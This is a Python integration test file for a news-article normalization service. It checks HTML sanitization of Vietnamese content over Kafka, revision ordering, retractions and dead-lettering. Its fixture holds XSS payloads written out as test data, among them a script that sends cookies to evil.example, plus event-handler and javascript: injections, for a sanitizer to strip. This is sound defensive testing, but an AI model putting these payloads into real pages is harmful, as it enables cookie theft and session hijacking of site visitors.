"""The normalize service on the real stack: article.ingested in, article.normalized out."""

from __future__ import annotations

import base64
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager
from fastapi import FastAPI

from portal_contracts.articles import (
    ArticleAction,
    ArticleContent,
    ArticleIngested,
    ArticleIngestedEvent,
    ArticleNormalizedEvent,
    Channel,
    article_id_for,
)
from portal_contracts.topics import ARTICLE_INGESTED, ARTICLE_NORMALIZED
from portal_normalize.app import create_app

pytestmark = pytest.mark.stack

SOURCE = "tinh-thu-nghiem"
DIRTY_HTML = (
    '<div class="noi-dung" style="font-family:.VnTime">'
    "<h1>Hội nghị lần thứ 8</h1>"
    '<p onclick="steal()">Thuỷ lợi và hoà bình <font color="red">phát triển</font>.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p><a href="javascript:alert(1)">bấm</a> <a href="/tin/khac.html">tin khác</a></p>'
    '<img src="https://anh.example/1.jpg" onerror="alert(1)" alt="Ảnh">'
    '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>'
    "</div>"
)


@pytest.fixture
async def normalize(env_for: Any) -> AsyncIterator[tuple[FastAPI, dict[str, str]]]:
    env = env_for("normalize")
    app = create_app()
    async with LifespanManager(app, startup_timeout=120, shutdown_timeout=60):
        yield app, env


def _ingested(
    external_id: str,
    revision: int,
    *,
    action: ArticleAction = ArticleAction.UPSERT,
    title: str = "Hội nghị",
    body_html: str = "<p>Nội dung</p>",
) -> ArticleIngestedEvent:
    article_id = article_id_for(SOURCE, external_id)
    content = None
    if action is ArticleAction.UPSERT:
        content = ArticleContent(
            title=title,
            body_html=body_html,
            section="ct-tin-tuc-hoat-dong",
            canonical_url="https://tinh.example.vn/tin/1.html",
        )
    return ArticleIngestedEvent(
        producer="ingest",
        subject=article_id,
        data=ArticleIngested(
            article_id=article_id,
            source=SOURCE,
            external_id=external_id,
            revision=revision,
            action=action,
            channel=Channel.REST,
            received_at=datetime.now(UTC),
            content=content,
        ),
    )


async def test_dirty_html_comes_out_clean(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    app, env = normalize
    ext = uuid.uuid4().hex
    event = _ingested(ext, 1, title="  Hoà bình &amp; <b>phát triển</b>", body_html=DIRTY_HTML)
    await kafka_events.produce(ARTICLE_INGESTED.name, event)

    found = await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject, until=bool)
    out = ArticleNormalizedEvent.model_validate(found[0])
    assert out.producer == "normalize"
    assert out.subject == event.subject
    data = out.data
    assert (data.source, data.external_id, data.revision) == (SOURCE, ext, 1)
    assert data.action is ArticleAction.UPSERT
    assert data.article is not None
    html = data.article.body_html
    for dangerous in ("<script", "javascript:", "onerror", "onclick", "<iframe", "<svg", "style="):
        assert dangerous not in html
    assert "<font" not in html and "class=" not in html
    assert "<h2>Hội nghị lần thứ 8</h2>" in html
    assert "Thủy lợi và hòa bình" in html  # one tone placement
    assert 'href="https://tinh.example.vn/tin/khac.html" rel="noopener noreferrer nofollow"' in html
    assert '<img src="https://anh.example/1.jpg" alt="Ảnh">' in html
    assert data.article.title == "Hòa bình & phát triển"
    assert data.article.body_text.startswith("Hội nghị lần thứ 8\n\nThủy lợi và hòa bình")
    assert data.article.summary.startswith("Hội nghị lần thứ 8 Thủy lợi")
    assert data.article.lead_image is not None
    assert data.quality is not None
    repairs = {r.code for r in data.quality.repairs}
    assert {"markup_removed", "attributes_removed", "unsafe_url_removed"} <= repairs
    assert data.quality.score < 1

    # Operators can look the result up.
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://normalize"
    ) as client:
        status = await client.get(
            f"/admin/v1/articles/{event.subject}",
            headers={"Authorization": f"Bearer {env['ADMIN_TOKEN']}"},
        )
        assert status.status_code == 200, status.text
        assert status.json()["revision"] == 1
        assert (await client.get(f"/admin/v1/articles/{event.subject}")).status_code == 401


async def test_older_revisions_and_repeats_are_ignored(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    ext = uuid.uuid4().hex
    newer = _ingested(ext, 2, title="Bản hai")
    older = _ingested(ext, 1, title="Bản một")
    newest = _ingested(ext, 3, title="Bản ba")
    # The newer revision first, then a stale one, the same event again, then a newer one.
    await kafka_events.produce(ARTICLE_INGESTED.name, newer, older, newer, newest)
    found = await kafka_events.read(
        ARTICLE_NORMALIZED.name,
        newer.subject,
        until=lambda evs: any(e["data"]["revision"] == 3 for e in evs),
    )
    assert [e["data"]["revision"] for e in found] == [2, 3]
    assert [e["data"]["article"]["title"] for e in found] == ["Bản hai", "Bản ba"]


async def test_retraction_passes_through(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    ext = uuid.uuid4().hex
    first = _ingested(ext, 1)
    retract = _ingested(ext, 2, action=ArticleAction.RETRACT)
    await kafka_events.produce(ARTICLE_INGESTED.name, first, retract)
    found = await kafka_events.read(
        ARTICLE_NORMALIZED.name, first.subject, until=lambda evs: len(evs) >= 2
    )
    last = ArticleNormalizedEvent.model_validate(found[-1]).data
    assert last.action is ArticleAction.RETRACT
    assert last.revision == 2
    assert last.article is None


async def test_an_upsert_without_content_is_dead_lettered(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    event = _ingested(uuid.uuid4().hex, 1)
    broken = event.model_copy(update={"data": event.data.model_copy(update={"content": None})})
    await kafka_events.produce(ARTICLE_INGESTED.name, broken)

    def about_ours(letter: dict[str, Any]) -> bool:
        key = letter["data"].get("original_key_b64")
        return key is not None and base64.b64decode(key).decode() == event.subject

    letters = await kafka_events.read(
        ARTICLE_INGESTED.dead_letter_topic, None, until=lambda evs: any(map(about_ours, evs))
    )
    letter = next(e for e in letters if about_ours(e))["data"]
    assert letter["consumer_group"] == "normalize"
    assert "without content" in letter["reason"]
    assert await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject) == []
